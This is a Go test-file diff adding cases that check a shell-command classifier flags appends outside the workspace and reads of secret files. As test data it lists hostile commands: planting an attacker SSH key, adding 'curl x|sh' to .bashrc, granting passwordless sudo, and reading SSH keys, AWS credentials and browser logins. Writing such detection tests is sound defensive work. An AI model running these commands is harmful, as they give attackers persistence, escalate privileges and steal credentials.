@@ -1075,3 +1075,25 @@ func TestTruncatingAndDdInTheWorkspaceAreWrites(t *testing.T) {
 		{"dd if=/dev/zero of=$X", destructive, "fs.dd"},
 	})
 }
+
+func TestAppendsOutsideAndCredentialsInEveryHome(t *testing.T) {
+	check(t, []want{
+		{"echo 'ssh-rsa AAA attacker' >> ~/.ssh/authorized_keys", destructive, "fs.append-outside-workspace"},
+		{"tee -a ~/.bashrc <<< 'curl x|sh'", destructive, "fs.append-outside-workspace"},
+		{"sudo tee -a /etc/sudoers <<< 'user ALL=(ALL) NOPASSWD:ALL'", destructive, "fs.append-outside-workspace"},
+		{"cd /etc && echo x >> passwd", destructive, "fs.append-outside-workspace"},
+		{"ln -s ~/.bashrc b && echo pwn >> b", destructive, "fs.append-outside-workspace"},
+		{"echo x >> $F", unknown, "fs.append-dynamic"},
+		{"echo x >> notes.txt", write, "fs.write"},
+		{"echo x >> /tmp/log", read, ""},
+		{"cat /home/*/.ssh/id_rsa", credential, "creds.read-secret-file"},
+		{"cat /*/*/.aws/credentials", credential, "creds.read-secret-file"},
+		{"cat /home/u*/.ssh/id_*", credential, "creds.read-secret-file"},
+		{"cat ~/.mozilla/firefox/*/logins.json", credential, "creds.read-secret-file"},
+		{"cat ~/.databrickscfg", credential, "creds.read-secret-file"},
+		{"cat /etc/ssh/ssh_host_rsa_key", credential, "creds.read-secret-file"},
+		{"cat /etc/kubernetes/admin.conf", credential, "creds.read-secret-file"},
+		{"cat /etc/ssh/ssh_host_rsa_key.pub", read, ""},
+		{"cat /home/*/notes.txt", read, ""},
+	})
+}
